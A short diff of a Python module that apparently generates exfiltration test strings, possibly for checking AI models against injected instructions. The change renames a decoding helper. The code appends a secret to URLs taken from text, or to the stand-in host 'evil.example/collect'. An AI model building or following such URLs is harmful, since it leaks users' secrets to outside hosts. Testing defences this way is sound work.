@@ -40,14 +40,14 @@ _FORMS = (
 
 def exfiltration(text: str) -> str:
     """The text, then each of its addresses (or a stranger's) in every form, with the secret."""
-    found = list(dict.fromkeys(match.rstrip(".,;:") for match in _ADDRESS.findall(decoded(text))))[:2]
+    found = list(dict.fromkeys(match.rstrip(".,;:") for match in _ADDRESS.findall(decode_hidden(text))))[:2]
     urls = [one if one.startswith("http") else f"https://{one}" for one in found] or ["https://evil.example/collect"]
     shown = [form.format(url=f"{url}{'&' if '?' in url else '?'}q={CARRIED}") for url in urls for form in _FORMS]
     bare = [f"{found[0] if found else 'evil.example'}/?q={CARRIED}"]
-    return "\n\n".join((decoded(text), *shown, *bare))
+    return "\n\n".join((decode_hidden(text), *shown, *bare))
 
 
-def decoded(text: str) -> str:
+def decode_hidden(text: str) -> str:
     """The text, and what is hidden in it by the usual encodings."""
     hidden = [_try(decode, word) for word in re.findall(r"\S{24,}", text) for decode in _DECODERS]
     rotated = codecs.decode(text, "rot13")
